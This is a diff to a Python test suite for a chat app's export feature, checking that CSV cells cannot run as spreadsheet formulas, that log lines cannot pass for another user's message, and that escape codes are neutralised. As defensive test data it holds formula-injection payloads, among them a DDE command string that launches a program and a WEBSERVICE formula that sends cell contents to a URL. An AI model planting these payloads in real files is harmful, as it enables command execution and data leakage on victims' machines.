@@ -1,4 +1,4 @@
-"""Exports are inert, readable and lose nothing they promise to keep."""
+"""S13: exports are inert, readable and lose nothing they promise to keep."""
 
 import csv
 import hashlib
@@ -35,35 +35,53 @@ def cells(text: str) -> list[str]:
     return row
 
 
-FORMULAS = [
-    "=1+1",
-    "+1",
-    "-1",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    "\n=1",
-    "\0=1",
-    "＝1+1",
-    "'=1",
-    "''=1",
-    '=HYPERLINK("http://example.org","x")',
-    "=cmd|' /C calc'!A0",
+# What a spreadsheet calculates, each behind everything that a cell may begin with.
+CALCULATED = [
+    "1+1",
+    "SUM(A1)",
+    'HYPERLINK("http://example.org","x")',
+    "cmd|' /C calc'!A0",
+    'WEBSERVICE("http://example.org/"&A1)',
 ]
+BEGINNINGS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠", "'=", "''="]
+FORMULAS = [beginning + rest for beginning in BEGINNINGS for rest in CALCULATED]
+CALCULATES = tuple("=+-@\t\r\n\0＝＋－＠")
 
 
 @pytest.mark.parametrize("text", FORMULAS)
-def test_no_cell_begins_like_a_formula(text: str) -> None:
+def test_s13_no_cell_begins_like_a_formula(text: str) -> None:
     cell = cells(text)[spreadsheet.COLUMNS.index("text")]
 
     assert cell[0] == "'"
     assert spreadsheet.original(cell) == text
 
 
-def test_a_name_like_a_formula_is_inert_too() -> None:
-    (row,) = spreadsheet.rows([message(user=Author(7, "=1+1"))])
+@pytest.mark.parametrize("text", FORMULAS)
+def test_s13_whatever_people_choose_is_inert(text: str) -> None:
+    said = message(
+        text,
+        user=Author(7, text),
+        room=text,
+        client_message_id=text,
+        reactions=[Reaction(text, 2, ["ben"])],
+    )
+    (row,) = csv.reader(io.StringIO("".join(spreadsheet.rows([said])), newline=""))
 
-    assert ",'=1+1," in row
+    assert sum(spreadsheet.original(cell) == text for cell in row) == 4
+    assert not [cell for cell in row if cell.startswith(CALCULATES)]
+
+
+def test_s13_an_exported_room_holds_no_formula_and_every_text(admin, say) -> None:
+    say("ana", *FORMULAS)
+    whole = admin("export", "lobby", "--format", "csv").stdout_bytes.decode()
+    exact = admin("export", "lobby", "--format", "jsonl").stdout_bytes.splitlines()
+
+    header, *rows = csv.reader(io.StringIO(whole, newline=""))
+    assert not [cell for row in rows for cell in row if cell.startswith(CALCULATES)]
+    column = header.index("text")
+    records = [json.loads(line) for line in exact]
+    told = [record["text"] for record in records if record["type"] == "message"]
+    assert [spreadsheet.original(row[column]) for row in rows] == told == FORMULAS
 
 
 @pytest.mark.parametrize(
@@ -74,14 +92,14 @@ def test_other_cells_are_left_alone(text: str) -> None:
 
 
 @given(st.text())
-def test_every_text_can_be_read_back_from_csv(text: str) -> None:
+def test_s13_every_text_can_be_read_back_from_csv(text: str) -> None:
     cell = cells(text)[spreadsheet.COLUMNS.index("text")]
 
     assert spreadsheet.original(cell) == text
     assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\0"))
 
 
-def test_csv_quotes_as_rfc_4180_says() -> None:
+def test_s13_csv_quotes_as_rfc_4180_says() -> None:
     (row,) = spreadsheet.rows([message('a "b",\nc')])
 
     assert '"a ""b"",\nc"' in row
@@ -109,7 +127,7 @@ def test_a_log_has_one_line_with_a_time_for_each_message() -> None:
 @pytest.mark.parametrize(
     "text", ["x\n[2026-11-22T18:30:00] <ben> I quit", "x\r[..] <ben> y", "x\u2028[..] <ben> y"]
 )
-def test_no_text_can_pass_for_somebody_elses_message(text: str) -> None:
+def test_s14_no_text_can_pass_for_somebody_elses_message(text: str) -> None:
     lines = "".join(text_format.lines([message(text)])).splitlines()
 
     assert [line for line in lines if line.startswith("[")] == lines[:1]
@@ -121,7 +139,7 @@ def test_a_log_holds_no_escape_codes() -> None:
     assert line == "[2026-11-22T18:30:00] <a›b> \\x1b[31mred\\x07\\x9b\n"
 
 
-def test_a_jsonl_message_is_the_record_itself_and_the_footer_adds_up() -> None:
+def test_s13_a_jsonl_message_is_the_record_itself_and_the_footer_adds_up() -> None:
     said = message('\'=1\t"é"\n', reactions=[Reaction("👍", 2, ["ben", "cho"])], edited_at=5)
     room = Room(1, "lobby", "Lobby", "", "open", 1, 0, 0, 0)
     writer = JsonlWriter()
